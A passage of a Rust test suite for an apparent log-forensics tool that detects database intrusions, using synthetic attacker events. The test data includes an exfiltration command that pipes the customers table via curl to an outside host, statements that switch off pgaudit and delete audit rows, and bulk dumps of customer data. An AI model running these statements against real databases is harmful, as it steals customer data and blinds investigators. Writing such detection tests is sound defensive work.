fn balance_updates_of_a_range_of_keys_change_the_roster_s_accounts_in_it() {
    // Stolen credentials at a prompt credit ten accounts by a range of keys, empty the
    // ten newest, and delete five accounts' bonus rows.
    let mut v = background();
    let ip = "198.51.100.66";
    for (k, sql) in [
        "UPDATE bonus_accounts SET balance = balance + 500 WHERE account_id BETWEEN 5010 AND 5019",
        "UPDATE bonus_accounts SET balance = 0 WHERE account_id >= 5190",
        "DELETE FROM bonus_accounts WHERE account_id BETWEEN 5100 AND 5104",
    ]
    .into_iter()
    .enumerate()
    {
        let ts = T0 + 2 * DAY + 300 * MIN + k as i64 * MIN;
        v.push(db(ts, "loyalty_app", ip, sql, None));
    }
    let unnamed_note = |a: &Analysis| {
        (a.notes.iter()).any(|n| n.contains("changed rows their text does not name"))
    };
    let a = run_with(v.clone(), Some(roster_of(5000..5200)));
    let found = of_technique(&a, t::BONUS_FRAUD);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(
        found[0]
            .explanation
            .contains("changed the bonus of every account in a range of keys"),
        "{}",
        found[0].explanation
    );
    let tampered: Vec<(&str, Option<i64>)> = (a.affected.values())
        .filter(|x| x.impacts.contains("bonus_tampered"))
        .map(|x| (x.account.as_str(), x.bonus_points()))
        .collect();
    let want: Vec<(String, Option<i64>)> = (5010..5020)
        .map(|k| (k.to_string(), Some(500)))
        .chain(
            (5100..5105)
                .chain(5190..5200)
                .map(|k| (k.to_string(), None)),
        )
        .collect();
    let want: Vec<(&str, Option<i64>)> = want.iter().map(|(a, p)| (a.as_str(), *p)).collect();
    assert_eq!(tampered, want);
    assert!(!unnamed_note(&a), "{:#?}", a.notes);
    // Without a roster the evidence does not list every account in the ranges.
    let a = run(v);
    assert!(!a
        .affected
        .values()
        .any(|x| x.impacts.contains("bonus_tampered")));
    assert!(unnamed_note(&a), "{:#?}", a.notes);
}

#[test]
fn a_promo_replayed_hundreds_of_times_is_bonus_fraud_though_each_credit_is_small() {
    // Each credit is an ordinary size; two hundred into one account in half an hour are
    // not.
    let mut v = background();
    accruals(&mut v, 300, 120, 50);
    for k in 0..200i64 {
        promo(
            &mut v,
            T0 + DAY + k * 9_000_000,
            &format!("promo{k}"),
            Some("9001"),
            &["UPDATE bonus_accounts SET balance = balance + 50 WHERE account_id = 9001"],
        );
    }
    let a = run(v);
    assert!(has(&a, t::BONUS_FRAUD, "192.0.2.99"), "{:?}", a.findings);
    assert!(!has(&a, t::BONUS_FRAUD, "100.64.1.1"));
    assert_eq!(a.affected["9001"].bonus_points(), Some(10000));
}

/// A request from the attacker's address to the promo route, whose statements run a
/// millisecond apart from 5 ms after it.
fn promo(v: &mut Vec<Event>, ts: i64, rid: &str, user: Option<&str>, sqls: &[&str]) {
    let mut g = gw(ts, "192.0.2.99", "POST", "/api/bonus/promo", 200, user);
    g.request_id = Some(rid.into());
    v.push(g);
    for (k, sql) in (0i64..).zip(sqls) {
        v.push(db(ts + 5000 + k * 1000, "app", "10.0.0.5", sql, Some(rid)));
    }
}

/// A transfer of `points` from one account to another, through one request from `ip`.
fn transfer(v: &mut Vec<Event>, ts: i64, ip: &str, from: u32, to: u32, points: u32) {
    let mut g = gw(
        ts,
        ip,
        "POST",
        "/api/bonus/transfer",
        200,
        Some(&from.to_string()),
    );
    let rid = format!("t-{ts}-{from}-{to}");
    g.request_id = Some(rid.as_str().into());
    v.push(g);
    for (acc, sign, dt) in [(from, '-', 3000), (to, '+', 4000)] {
        v.push(db(
            ts + dt,
            "app",
            "10.0.0.5",
            &format!("UPDATE bonus_accounts SET balance = balance {sign} {points} WHERE account_id = {acc}"),
            Some(&rid),
        ));
    }
}

#[test]
fn fan_in_is_weighed_against_the_app_s_own_transfers() {
    // A busy app: 200 customers send each other small amounts every ten minutes for
    // three days. Somewhere in that an ordinary customer receives from three others
    // within 50 minutes, which a fixed "three senders an hour" rule called fraud; a
    // collector receiving from five compromised accounts within five minutes is not
    // explained by that traffic.
    let mut v = background();
    let mut x: u64 = 12345;
    let mut next = |n: u64| {
        x = x
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        ((x >> 33) % n) as u32
    };
    for k in 0..(3 * 24 * 6) {
        let from = 6000 + next(200);
        let to = 6000 + (from - 6000 + 1 + next(199)) % 200;
        let ip = format!("100.65.{}.{}", next(4), next(250));
        transfer(
            &mut v,
            T0 + k * 10 * MIN + 7000,
            &ip,
            from,
            to,
            10 + next(40),
        );
    }
    let busy = T0 + DAY + 14 * 60 * MIN;
    for (k, from) in [6001, 6002, 6003].into_iter().enumerate() {
        let ip = format!("100.66.0.{k}");
        transfer(&mut v, busy + k as i64 * 25 * MIN, &ip, from, 6150, 20);
    }
    for (k, from) in [6011, 6012, 6013, 6014, 6015].into_iter().enumerate() {
        transfer(
            &mut v,
            busy + 2 * MIN + k as i64 * MIN,
            "192.0.2.50",
            from,
            6199,
            30,
        );
    }
    let a = run(v);
    assert!(
        has(&a, t::BONUS_FRAUD, "192.0.2.50"),
        "the collector's burst"
    );
    let f = a.findings.iter().find(|f| f.subject.contains("192.0.2.50"));
    assert!(f.is_some_and(|f| f.explanation.contains("into account 6199")));
    let flagged: Vec<&str> = (a.findings.iter())
        .filter(|f| f.technique == t::BONUS_FRAUD && !f.subject.contains("192.0.2.50"))
        .map(|f| f.subject.as_str())
        .collect();
    assert!(
        flagged.is_empty(),
        "everyday transfers flagged: {flagged:?}"
    );
    assert!(!a.affected.contains_key("6150"), "the ordinary receiver");
    assert_eq!(a.affected["6199"].bonus_delta, Some(150));
}

#[test]
fn whole_table_reads_vs_the_nightly_job() {
    let mut v = background();
    for d in 0..4 {
        v.push(db(
            T0 + d * DAY,
            "analytics",
            "10.0.5.20",
            "COPY (SELECT id, email FROM customers) TO STDOUT",
            None,
        ));
        // A backup job pipes the table to gzip on the server: the server's own tool.
        v.push(db(
            T0 + d * DAY + MIN,
            "backup",
            "10.0.5.22",
            "COPY customers TO PROGRAM 'gzip > /backup/customers.gz'",
            None,
        ));
    }
    // An intruder's session pipes it to another host.
    v.push(db(
        T0 + 2 * DAY + 7 * 3_600_000_000,
        "postgres",
        "192.0.2.49",
        "COPY customers TO PROGRAM 'curl -T - https://203.0.113.77/u'",
        None,
    ));
    v.push(db(
        T0 + 3 * DAY + 3 * 3_600_000_000,
        "postgres",
        "192.0.2.45",
        "SELECT * FROM customers",
        None,
    ));
    // Another intruder stages the table in a copy of its own and reads the copy.
    for (k, sql) in [
        "CREATE TABLE tmp_x AS SELECT id, email, phone FROM customers",
        "SELECT * FROM tmp_x",
    ]
    .into_iter()
    .enumerate()
    {
        let ts = T0 + 2 * DAY + k as i64 * MIN;
        v.push(db(ts, "postgres", "192.0.2.46", sql, None));
    }
    let a = run(v);
    assert!(has(&a, t::BULK_EXPORT, "192.0.2.45"));
    assert!(has(&a, t::BULK_EXPORT, "192.0.2.46"));
    assert!(
        !has(&a, t::BULK_EXPORT, "10.0.5.20"),
        "the nightly job is routine"
    );
    assert!(has(&a, t::BULK_EXPORT, "192.0.2.49"));
    assert!(
        !a.findings.iter().any(|f| f.subject.contains("10.0.5.22")),
        "the backup job is routine: {:?}",
        a.findings
    );
}

#[test]
fn pages_of_the_customer_list_add_up_to_a_bulk_export() {
    let mut v = background();
    let page = |n: i64, size: i64| {
        format!(
            "SELECT id, email, phone FROM customers ORDER BY id LIMIT {size} OFFSET {}",
            n * size
        )
    };
    // A CRM sync pages through the list every night: routine.
    for d in 0..4 {
        for n in 0..15 {
            let ts = T0 + d * DAY + n * MIN;
            v.push(db(ts, "crm_sync", "10.0.5.21", &page(n, 100), None));
        }
    }
    // An intruder's session walks the whole list in pages of a hundred.
    for n in 0..20 {
        let ts = T0 + 2 * DAY + 5 * 3_600_000_000 + n * 20_000_000;
        v.push(db(ts, "postgres", "192.0.2.47", &page(n, 100), None));
    }
    // Someone reopens the list's first page thirty times; another reads four big pages.
    for n in 0..30 {
        let ts = T0 + DAY + n * MIN;
        v.push(db(ts, "support", "192.0.2.48", &page(0, 100), None));
    }
    for n in 0..4 {
        let ts = T0 + DAY + n * MIN;
        v.push(db(ts, "support", "192.0.2.50", &page(n, 500), None));
    }
    // A credential stuffer who got in reads three pages of fifty through the app's
    // customer list (which should not have answered a customer).
    let ip = "203.0.113.9";
    for k in 0..40 {
        let ok = k == 39;
        let ts = T0 + 3 * DAY + k * 2_000_000;
        v.push(gw(
            ts,
            ip,
            "POST",
            "/api/auth/login",
            if ok { 200 } else { 401 },
            ok.then_some("5001"),
        ));
    }
    for n in 0..3 {
        let ts = T0 + 3 * DAY + 2 * MIN + n * MIN;
        let req = gw(
            ts,
            ip,
            "GET",
            &format!("/api/v1/customers?page={n}"),
            200,
            Some("5001"),
        );
        let id = req.request_id.as_deref().unwrap().to_string();
        v.push(req);
        v.push(db(ts + 5_000, "app", "10.0.1.5", &page(n, 50), Some(&id)));
    }
    let a = run(v);
    let found = of_technique(&a, t::BULK_EXPORT);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert!(
        found[0].subject.contains("192.0.2.47"),
        "{}",
        found[0].subject
    );
    assert!(
        found[0].explanation.contains("20 pages"),
        "{}",
        found[0].explanation
    );
    // The pages returned more rows than there were accounts: every account was exposed.
    assert_eq!(
        a.affected
            .values()
            .filter(|x| x.impacts.contains("data_exposed"))
            .count(),
        200
    );
    assert!(
        a.notes
            .iter()
            .any(|n| n.contains("3 pages in wave") && n.contains("(150 rows)")),
        "{:#?}",
        a.notes
    );
}

#[test]
fn reads_by_key_range_expose_the_accounts_in_their_ranges() {
    let mut v = background();
    let t = T0 + 2 * DAY + 5 * 3_600_000_000;
    // One intruder dumps twelve chunks of a hundred keys, another everything above a
    // key, a third walks the list from its newest key down, twelve pages of a hundred.
    for n in 0..12 {
        let (lo, hi) = (5100 + n * 100, 5199 + n * 100);
        let sql = match n % 2 {
            0 => format!("SELECT id, email, phone FROM customers WHERE id BETWEEN {lo} AND {hi}"),
            _ => format!(
                "SELECT id, email, phone FROM customers WHERE id >= {lo} AND id < {}",
                hi + 1
            ),
        };
        v.push(db(t + n * 20_000_000, "postgres", "192.0.2.47", &sql, None));
    }
    let sql = "SELECT * FROM customers WHERE id > 7499";
    v.push(db(t + DAY, "postgres", "192.0.2.46", sql, None));
    let mut walk = Vec::new();
    for n in 0..12 {
        let sql = format!(
            "SELECT id, email FROM customers ORDER BY id DESC LIMIT 100 OFFSET {}",
            n * 100
        );
        let ts = t + DAY / 2 + n * 20_000_000;
        walk.push(db(ts, "postgres", "192.0.2.48", &sql, None));
    }
    // The roster lists every account: each read's rows are named, the pages' too.
    let all: Vec<Event> = v.iter().chain(&walk).cloned().collect();
    let a = run_with(all, Some(roster_of(5000..8000)));
    let want: Vec<i64> = (5100..6300).chain(6800..8000).collect();
    assert_eq!(exposed_keys(&a), want);
    assert!(
        !a.notes.iter().any(|n| n.contains("page by page")),
        "{:#?}",
        a.notes
    );
    let told = |acc: &str, what: &str| {
        let x = &a.affected[acc];
        assert!(
            x.evidence.iter().any(|(_, _, why)| why.contains(what)),
            "{acc}: {:#?}",
            x.evidence
        );
    };
    told("5103", "by key range (keys 5100–5199)");
    told(
        "7150",
        "(keys, 100 in descending key order after the first 800)",
    );
    told("7600", "by key range (keys from 7500)");
    // The evidence alone shows the accounts that logged in: a range names those in it.
    let a = run(v);
    assert_eq!(exposed_keys(&a), (5100..5200).collect::<Vec<_>>());
}

#[test]
fn pages_of_a_customer_listing_requested_through_the_api_add_up_to_a_bulk_export() {
    let mut v = background();
    let t = T0 + 2 * DAY + 5 * 3_600_000_000;
    // Twelve pages of a hundred, and twenty-five pages of the API's default size.
    for n in 0..12 {
        let path = format!("/api/v1/customers?page={n}&per_page=100");
        v.push(gw(
            t + n * 20_000_000,
            "192.0.2.60",
            "GET",
            &path,
            200,
            None,
        ));
    }
    for n in 0..25 {
        let path = format!("/api/v1/customers?cursor=c{n}x");
        v.push(gw(
            t + DAY + n * 20_000_000,
            "192.0.2.61",
            "GET",
            &path,
            200,
            None,
        ));
    }
    // Four pages of a hundred; the first page forty times; twelve refused pages.
    for n in 0..4 {
        let path = format!("/api/v1/customers?page={n}&per_page=100");
        v.push(gw(t + n * MIN, "192.0.2.62", "GET", &path, 200, None));
    }
    for n in 0..40 {
        let path = "/api/v1/customers?page=1&limit=100";
        v.push(gw(t + n * MIN, "192.0.2.63", "GET", path, 200, None));
    }
    for n in 0..12 {
        let path = format!("/api/v1/customers?page={n}&per_page=100");
        v.push(gw(t + n * MIN, "192.0.2.64", "GET", &path, 403, None));
    }
    let a = run(v);
    let found = of_technique(&a, t::BULK_EXPORT);
    let subjects: Vec<&str> = found.iter().map(|f| f.subject.as_str()).collect();
    assert_eq!(subjects, ["192.0.2.60", "192.0.2.61"], "{found:#?}");
    assert!(found[0]
        .explanation
        .contains("12 pages within an hour (1200 rows"));
    assert!(found[1]
        .explanation
        .contains("25 pages within an hour (pages of a size"));
    // Twelve pages of a hundred read the table whole: every account existed by then.
    // Pages of unknown size name no account; a note counts them.
    let wave_of = |ip: &str| {
        let ev = &a.ing.events;
        let i = (0..ev.len())
            .find(|&i| ev[i].client_ip.as_deref() == Some(ip))
            .unwrap();
        a.attr[i].as_ref().expect("attributed").wave
    };
    let exposed = |w: u32| a.affected.values().filter(|x| x.waves.contains(&w)).count();
    assert_eq!(exposed(wave_of("192.0.2.60")), 200);
    let w = wave_of("192.0.2.61");
    assert_eq!(exposed(w), 0);
    let note = format!("25 pages in wave {w} (pages of a size the requests do not give)");
    assert!(a.notes.iter().any(|n| n.contains(&note)), "{:#?}", a.notes);
}

#[test]
fn requests_for_ranges_of_keys_expose_the_accounts_in_their_ranges() {
    let mut v = background();
    let t = T0 + 2 * DAY + 5 * 3_600_000_000;
    // One intruder dumps twelve chunks of a hundred keys through a PostgREST API (as
    // Supabase serves it behind Kong); another walks the list from a key upwards, twelve
    // pages of a hundred after each last key seen.
    for n in 0..12 {
        let (lo, hi) = (5100 + n * 100, 5199 + n * 100);
        let path = format!("/rest/v1/customers?select=*&id=gte.{lo}&id=lte.{hi}&order=id.asc");
        v.push(gw(
            t + n * 20_000_000,
            "192.0.2.70",
            "GET",
            &path,
            200,
            None,
        ));
    }
    let mut walk = Vec::new();
    for n in 0..12 {
        let path = format!(
            "/api/v1/customers.json?since_id={}&limit=100",
            6799 + n * 100
        );
        let ts = t + DAY / 2 + n * 20_000_000;
        walk.push(gw(ts, "192.0.2.71", "GET", &path, 200, None));
    }
    let all: Vec<Event> = v.iter().chain(&walk).cloned().collect();
    let a = run_with(all, Some(roster_of(5000..8000)));
    let found = of_technique(&a, t::BULK_EXPORT);
    let subjects: Vec<&str> = found.iter().map(|f| f.subject.as_str()).collect();
    assert_eq!(subjects, ["192.0.2.70", "192.0.2.71"], "{found:#?}");
    let want: Vec<i64> = (5100..6300).chain(6800..8000).collect();
    assert_eq!(exposed_keys(&a), want);
    let x = &a.affected["7650"];
    assert!(
        x.evidence.iter().any(|(_, _, why)| why
            .contains("since_id=7599&limit=100 asked for customers by key range (keys from 7600, the first 100 in key order)")),
        "{:#?}",
        x.evidence
    );
    // The evidence alone: a range names the accounts in it the evidence shows; pages in
    // key order name none, and are counted as pages.
    let a = run(v);
    assert_eq!(exposed_keys(&a), (5100..5200).collect::<Vec<_>>());
}

#[test]
fn page_reads_without_request_ids_are_the_listing_requests_that_asked_for_them() {
    // The application tags no statement with a request id: each customer's sign-in
    // reads their row, on its pooled connection, 40 ms after the request.
    let mut v = background();
    for (ts, acc) in signed_in(&v) {
        v.push(own_row_read(ts, &acc));
    }
    for e in v.iter_mut().filter(|e| e.kind() == SourceKind::Gateway) {
        e.request_id = None;
    }
    // An intruder walks the admin panel's customer list, twelve numbered pages whose
    // size the requests do not say; the application reads each page 30 ms later.
    let t = T0 + DAY + 4 * 3_600_000_000;
    for n in 0..12 {
        let ts = t + n * 15_000_000;
        let path = format!("/admin/customers?page={}", n + 1);
        let mut g = gw(ts, "192.0.2.80", "GET", &path, 200, None);
        g.request_id = None;
        v.push(g);
        let sql = format!(
            "SELECT id, full_name, email, phone FROM customers ORDER BY id LIMIT 100 OFFSET {}",
            n * 100
        );
        v.push(db(ts + 30_000, "app", "10.0.1.5", &sql, None));
    }
    let a = run_with(v, Some(roster_of(5000..6500)));
    let found = of_technique(&a, t::BULK_EXPORT);
    let subjects: Vec<&str> = found.iter().map(|f| f.subject.as_str()).collect();
    assert_eq!(subjects, ["192.0.2.80"], "{found:#?}");
    assert!(found[0]
        .explanation
        .contains("12 pages within an hour (1200 rows"));
    assert_eq!(exposed_keys(&a), (5000..6200).collect::<Vec<_>>());
    let pages: Vec<&str> = (a.ing.events.iter().zip(&a.attr))
        .filter(|(e, _)| {
            e.kind() == SourceKind::Db
                && e.statement.as_deref().is_some_and(|s| s.contains("OFFSET"))
        })
        .map(|(_, x)| x.as_ref().map_or("", |x| x.reason.as_str()))
        .collect();
    assert_eq!(pages.len(), 12);
    assert!(
        pages
            .iter()
            .all(|r| r.contains("the page it asked for, 30 ms after") && r.contains("192.0.2.80")),
        "{pages:#?}"
    );
    assert!(a
        .notes
        .iter()
        .any(|n| n.starts_with("12 attacker statements that read a page")));
    // The customers' own reads stay theirs.
    assert!(a
        .ing
        .events
        .iter()
        .zip(&a.attr)
        .all(|(e, x)| x.is_none() || e.client_ip.as_deref() != Some("100.64.0.3")));
}

#[test]
fn a_quiet_back_office_login_whose_statements_follow_requests_is_the_application() {
    // The customer app's pool tags no statement and reads each signed-in customer's row
    // 40 ms after the sign-in. The back office has its own database login, a few
    // statements a day, none tagged either: staff open a customer's card now and then.
    let mut v = background();
    for (ts, acc) in signed_in(&v) {
        v.push(own_row_read(ts, &acc));
    }
    for d in 0..2 {
        for n in 0..3 {
            let ts = T0 + d * DAY + (9 + n) * 3_600_000_000;
            let acc = 5010 + d * 10 + n;
            let path = format!("/ops/customers/{acc}");
            v.push(gw(ts, "198.51.100.10", "GET", &path, 200, None));
            let sql = format!("SELECT id, full_name, email, phone FROM customers WHERE id = {acc}");
            v.push(db(ts + 30_000, "ops_api", "10.0.2.16", &sql, None));
        }
    }
    for e in v.iter_mut().filter(|e| e.kind() == SourceKind::Gateway) {
        e.request_id = None;
    }
    // An intruder walks the back office's customer list by offset; the back office
    // reads each page 25 ms later, logged in whole seconds.
    let t = T0 + DAY + 14 * 3_600_000_000 + 700_000;
    for n in 0..12 {
        let ts = t + n * 6_000_000;
        let path = format!("/ops/customers?offset={}&limit=100", n * 100);
        let mut g = gw(ts, "192.0.2.80", "GET", &path, 200, None);
        g.request_id = None;
        v.push(g);
        let sql = format!(
            "SELECT id, full_name, email, phone FROM customers ORDER BY id LIMIT 100 OFFSET {}",
            n * 100
        );
        v.push(db(
            (ts + 25_000) / 1_000_000 * 1_000_000,
            "ops_api",
            "10.0.2.16",
            &sql,
            None,
        ));
    }
    let a = run_with(v, Some(roster_of(5000..6500)));
    let found = of_technique(&a, t::BULK_EXPORT);
    let subjects: Vec<&str> = found.iter().map(|f| f.subject.as_str()).collect();
    assert_eq!(subjects, ["192.0.2.80"], "{:#?}", a.findings);
    assert_eq!(exposed_keys(&a), (5000..6200).collect::<Vec<_>>());
    assert!(
        a.notes
            .iter()
            .any(|n| n.starts_with("The database login ops_api@10.0.2.16 tags no statement")),
        "{:#?}",
        a.notes
    );
    // The staff's own looks at customers are nobody's attack.
    assert!(!a.findings.iter().any(|f| f.subject == "198.51.100.10"));
}

#[test]
fn transfers_whose_requests_name_no_account_follow_the_attacker_s_requests() {
    // Untagged statements; the customers' requests name their accounts, so the DB clock
    // is compared with the gateway's by account and time. Orders credit a few points.
    let mut v = background();
    for (k, (ts, acc)) in signed_in(&v).into_iter().enumerate() {
        v.push(own_row_read(ts, &acc));
        let at = ts + 20_000_000;
        let path = format!("/api/customers/{acc}/orders");
        v.push(gw(at, "100.64.1.1", "POST", &path, 201, Some(&acc)));
        let sql = format!(
            "UPDATE bonus_accounts SET balance = balance + {} WHERE account_id = {acc}",
            10 + k % 40
        );
        v.push(db(at + 30_000, "app", "10.0.1.5", &sql, None));
    }
    for e in v.iter_mut().filter(|e| e.kind() == SourceKind::Gateway) {
        e.request_id = None;
    }
    // A signed-in intruder drains thirty accounts into one through a transfer route
    // that names neither account; the gateway logs no identity.
    let t = T0 + DAY + 5 * 3_600_000_000;
    for n in 0..30 {
        let ts = t + n * 17_000_000;
        let mut g = gw(
            ts,
            "192.0.2.66",
            "POST",
            "/api/v1/points/transfer",
            200,
            None,
        );
        g.request_id = None;
        v.push(g);
        for (acc, sign) in [(5100 + n, "-"), (5199, "+")] {
            let sql = format!(
                "UPDATE bonus_accounts SET balance = balance {sign} 2500 WHERE account_id = {acc}"
            );
            v.push(db(ts + 30_000, "app", "10.0.1.5", &sql, None));
        }
    }
    let a = run_with(v, Some(roster_of(5000..5200)));
    assert!(has(&a, t::BONUS_FRAUD, "192.0.2.66"), "{:#?}", a.findings);
    let changes: Vec<&str> = (a.ing.events.iter().zip(&a.attr))
        .filter(|(e, _)| {
            e.statement
                .as_deref()
                .is_some_and(|s| s.contains("2500 WHERE"))
        })
        .map(|(_, x)| x.as_ref().map_or("", |x| x.reason.as_str()))
        .collect();
    assert_eq!(changes.len(), 60);
    assert!(
        changes.iter().all(|r| r.contains("192.0.2.66")),
        "{changes:#?}"
    );
    assert_eq!(a.waves.len(), 1);
    assert!(a.waves[0].attacker_ips.contains("192.0.2.66"));
    assert!(a
        .notes
        .iter()
        .any(|n| n.starts_with("60 flagged statements (bonus changes, injected probes")));
}

/// Staff at the office (198.51.100.10) behind a gateway that logs no identity, on the
/// mornings of `days` days from T0: a back-office sign-in, then a customer's card.
fn office_mornings(days: i64, agent: Option<&str>) -> Vec<Event> {
    let mut v = Vec::new();
    for d in 0..days {
        let ts = T0 + d * DAY + 8 * 3_600_000_000;
        for (at, method, path) in [
            (ts, "POST", "/ops/auth/login"),
            (ts + MIN, "GET", "/ops/customers/5010"),
        ] {
            let mut e = gw(at, "198.51.100.10", method, path, 200, None);
            e.user_agent = agent.map(Into::into);
            e.request_id = None;
            v.push(e);
        }
    }
    v
}

#[test]
fn a_staff_login_guessed_in_a_dozen_tries_from_a_new_address_is_brute_force() {
    // A gateway that logs no identity (Envoy); staff work from the office on two days.
    let mut v = background();
    v.extend(office_mornings(2, None));
    // On the third day: an intruder guesses a staff password in a dozen tries and sends
    // a broadcast; a staff member at the office mistypes as often; another address fails
    // as often and never gets in; a fourth gets in at its tenth try. Hours apart.
    for (k, (ip, fails, ok)) in [
        ("192.0.2.99", 12, true),
        ("198.51.100.10", 12, true),
        ("192.0.2.98", 12, false),
        ("192.0.2.97", 9, true),
    ]
    .into_iter()
    .enumerate()
    {
        let t = T0 + 2 * DAY + (8 + 3 * k as i64) * 3_600_000_000;
        for n in 0..fails {
            v.push(gw(
                t + n * 4_000_000,
                ip,
                "POST",
                "/ops/auth/login",
                401,
                None,
            ));
        }
        if ok {
            let at = t + fails * 4_000_000 + 3_000_000;
            v.push(gw(at, ip, "POST", "/ops/auth/login", 200, None));
            v.push(gw(at + MIN, ip, "POST", "/ops/push/broadcasts", 202, None));
        }
    }
    for e in v.iter_mut() {
        e.request_id = None;
    }
    let a = run(v);
    let found = of_technique(&a, t::CREDENTIAL_STUFFING);
    let subjects: Vec<&str> = found.iter().map(|f| f.subject.as_str()).collect();
    assert_eq!(subjects, ["192.0.2.99"], "{found:#?}");
    assert!(found[0]
        .explanation
        .starts_with("brute force of a staff login: 12 of 13 staff logins from 192.0.2.99 failed, then one succeeded at"));
    // Its staff requests after are the attacker's; the office's are not.
    assert!(
        has(&a, t::NEW_PLACE_ACCESS, "192.0.2.99"),
        "{:#?}",
        a.findings
    );
    assert!(!a
        .findings
        .iter()
        .any(|f| f.subject.contains("198.51.100.10")));
}

#[test]
fn customers_looked_up_by_phone_are_the_roster_s_accounts_reached() {
    // A signed-in customer's script looks up thirty other customers by phone number: the
    // requests name no account, and the statements they issue name phones only.
    let mut v = background();
    let t = T0 + DAY + 6 * 3_600_000_000;
    for n in 0..30 {
        let ts = t + n * 20_000_000;
        let phone = format!("+38067{:07}", 5100 + n);
        let path = format!("/api/v1/friends/lookup?phone={}", phone.replace('+', "%2B"));
        let g = gw(ts, "192.0.2.90", "GET", &path, 200, Some("5001"));
        let sql =
            format!("SELECT full_name, email, birth_date FROM customers WHERE phone = '{phone}'");
        let rid = g.request_id.as_deref().unwrap().to_string();
        v.push(g);
        v.push(db(ts + 20_000, "app", "10.0.1.5", &sql, Some(&rid)));
    }
    let csv: String = std::iter::once("account_id,created_at,phone\n".to_string())
        .chain((5000..5200).map(|k| format!("{k},2025-01-01T00:00:00Z,+38067{k:07}\n")))
        .collect();
    let roster = breachline::roster::Roster::parse(&csv, "roster.csv");
    let a = run_with(v.clone(), Some(roster));
    let idor = of_technique(&a, t::IDOR);
    assert_eq!(idor.len(), 1, "{:#?}", a.findings);
    assert_eq!(idor[0].subject, "5001");
    assert!(idor[0]
        .explanation
        .contains("30 other customers' accounts reached"));
    assert_eq!(exposed_keys(&a), (5100..5130).collect::<Vec<_>>());
    // Without the roster the phones name nobody.
    let a = run(v);
    assert_eq!(exposed_keys(&a), Vec::<i64>::new());
}

#[test]
fn the_application_s_database_login_used_from_a_public_address_is_a_new_place() {
    // Three days of the application's statements from its server, and a developer who
    // works from home on two of them.
    let mut v = background();
    for k in 0..(3 * 24 * 12) {
        let ts = T0 + k * 5 * MIN + 7_000_000;
        let sql = format!(
            "UPDATE bonus_accounts SET balance = balance + {} WHERE account_id = {}",
            20 + k % 30,
            5000 + k % 200
        );
        v.push(db(ts, "app", "10.0.1.5", &sql, None));
    }
    for d in [0, 2] {
        let ts = T0 + d * DAY + 10 * 3_600_000_000;
        v.push(db(
            ts,
            "dev",
            "198.51.100.44",
            "SELECT count(*) FROM orders",
            None,
        ));
    }
    // Staff at work from the office on every day, and an administrator's job inside the
    // network.
    for d in 0..3 {
        let ts = T0 + d * DAY + 9 * 3_600_000_000;
        let path = format!("/admin/customers/{}", 5010 + d);
        v.push(gw(
            ts,
            "198.51.100.10",
            "GET",
            &path,
            200,
            Some("anna@staff"),
        ));
        v.push(db(
            ts + MIN,
            "ops",
            "10.0.5.9",
            "SELECT count(*) FROM orders",
            None,
        ));
    }
    // The application's password, from the internet: credits of an ordinary size, so
    // that no change is an outlier. A new server of the application, and the
    // administrator at the office, do the like.
    let t = T0 + 2 * DAY + 9 * 3_600_000_000;
    for (host, user) in [
        ("203.0.113.50", "app"),
        ("10.0.1.7", "app"),
        ("198.51.100.10", "ops"),
    ] {
        for n in 0..30 {
            let sql = format!(
                "UPDATE bonus_accounts SET balance = balance + 500 WHERE account_id = {}",
                5100 + n
            );
            v.push(db(t + n * 10_000_000, user, host, &sql, None));
        }
    }
    let a = run(v);
    let found = of_technique(&a, t::NEW_PLACE_ACCESS);
    let subjects: Vec<&str> = found.iter().map(|f| f.subject.as_str()).collect();
    assert_eq!(subjects, ["db:app@203.0.113.50"], "{found:#?}");
    assert!(found[0]
        .explanation
        .contains("from 203.0.113.50, a public address it had not used (first on"));
    assert!(found[0]
        .explanation
        .ends_with("private networks: 10.0.1.5 — its password used from outside"));
    // The credits are the attacker's, once each, although the same accounts were
    // credited from the other hosts.
    assert_eq!(a.affected["5100"].bonus_delta, Some(500));
    assert_eq!(
        (a.affected.values())
            .filter(|x| x.bonus_delta.is_some())
            .count(),
        30
    );
}

#[test]
fn statements_that_blind_the_evidence_are_log_tampering_and_retention_is_not() {
    let mut v = background();
    // The application's statements every minute for three days, but for two hours after
    // the intruder switched the audit off.
    let off = T0 + DAY + 5 * 3_600_000_000;
    for k in 0..(3 * 24 * 60) {
        let ts = T0 + k * MIN + 7_000_000;
        if ts > off && ts < off + 2 * 3_600_000_000 {
            continue;
        }
        let sql = format!(
            "SELECT points FROM bonus_accounts WHERE account_id = {}",
            5000 + k % 200
        );
        v.push(db(ts, "app", "10.0.1.5", &sql, None));
    }
    // The nightly retention job trims the audit table.
    for d in 0..3 {
        let sql = "DELETE FROM audit_log WHERE created_at < now() - interval '90 days'";
        v.push(db(
            T0 + d * DAY + 3_600_000_000,
            "maint",
            "10.0.5.22",
            sql,
            None,
        ));
    }
    v.push(db(
        off,
        "postgres",
        "192.0.2.70",
        "SET pgaudit.log = 'none'",
        None,
    ));
    v.push(db(
        off + MIN,
        "postgres",
        "192.0.2.70",
        "DELETE FROM audit_log WHERE actor = 'postgres'",
        None,
    ));
    let a = run(v);
    let found = of_technique(&a, t::LOG_TAMPERING);
    assert_eq!(found.len(), 1, "{found:#?}");
    let f = found[0];
    assert!(f.subject.contains("192.0.2.70"), "{}", f.subject);
    assert!(
        f.explanation.contains("set pgaudit.log to \"none\"")
            && f.explanation.contains("deleted rows of audit_log")
            && f.explanation.contains("log is silent from"),
        "{}",
        f.explanation
    );
}

#[test]
fn a_principal_reading_accounts_from_rotating_addresses_is_enumeration() {
    let mut v = background();
    let staff = |ts: i64, ip: &str, acct: i64| {
        let mut e = gw(
            ts,
            ip,
            "GET",
            &format!("/admin/customers/{acct}"),
            200,
            None,
        );
        e.principal = Some("ops@corp.example".into());
        e
    };
    // At the office, a dozen customers a day.
    for d in 0..4 {
        for k in 0..12 {
            v.push(staff(T0 + d * DAY + k * 5 * MIN, "198.51.100.10", 7000 + k));
        }
    }
    // The stolen login behind a rotating proxy: 80 customers, two from each of 40 exits,
    // while the staff member works at the office.
    let t = T0 + 2 * DAY + 10 * 60 * MIN;
    for k in 0..30 {
        v.push(staff(t + k * MIN, "198.51.100.10", 7500 + k));
    }
    for k in 0..80 {
        let ip = format!("45.155.205.{}", k / 2 + 1);
        v.push(staff(t + k * 10_000_000, &ip, 7100 + k));
    }
    let a = run(v);
